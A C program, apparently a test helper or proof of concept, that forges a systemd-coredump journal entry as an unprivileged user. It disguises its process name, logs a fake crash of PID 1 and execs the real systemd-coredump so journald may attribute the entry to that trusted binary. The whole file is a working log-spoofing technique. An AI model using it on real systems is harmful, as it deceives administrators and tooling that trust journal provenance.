/* SPDX-License-Identifier: MIT */
/*
 * forge_and_exec TIMESTAMP - a forged systemd-coredump entry, as an
 * unprivileged user would make it: name itself like systemd-coredump (comm is cut
 * at 15 bytes), send a systemd-coredump-shaped entry about its own uid to
 * the journal (pid 1, /bin/bash, a COREDUMP_FILENAME of the right shape
 * for a core that does not exist), and exec /lib/systemd/systemd-coredump
 * at once, so that journald, reading _EXE and _COMM from /proc after the
 * message arrived, may record systemd-coredump's.  systemd-coredump run
 * with no arguments only logs that the kernel passed too few and exits.
 *
 * Exit: 2 bad usage, 3 sd_journal_send failed, 4 execv failed.
 */
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <systemd/sd-id128.h>
#include <systemd/sd-journal.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: forge_and_exec COREDUMP_TIMESTAMP\n");
    return 2;
  }
  const char *ts = argv[1];
  sd_id128_t boot;
  char boot_s[SD_ID128_STRING_MAX];
  if (sd_id128_get_boot(&boot) < 0) return 2;
  sd_id128_to_string(boot, boot_s);
  const unsigned uid = (unsigned)getuid(), gid = (unsigned)getgid();
  char file[512];
  snprintf(file, sizeof file, "COREDUMP_FILENAME=/var/lib/systemd/coredump/core.bash.%u.%s.1.%s.zst", uid, boot_s, ts);

  prctl(PR_SET_NAME, "systemd-coredum");
  int r = sd_journal_send("MESSAGE=Process 1 (bash) of user %u dumped core.", uid,
                          "MESSAGE_ID=fc2e22bc6ee647b6b90729ab34a250b1", "PRIORITY=2", "COREDUMP_PID=1",
                          "COREDUMP_UID=%u", uid, "COREDUMP_GID=%u", gid, "COREDUMP_SIGNAL=11",
                          "COREDUMP_SIGNAL_NAME=SIGSEGV", "COREDUMP_TIMESTAMP=%s", ts, "COREDUMP_COMM=bash",
                          "COREDUMP_EXE=/bin/bash", "%s", file, NULL);
  if (r < 0) return 3;
  char *const args[] = {"systemd-coredump", NULL};
  execv("/lib/systemd/systemd-coredump", args);
  return 4;
}
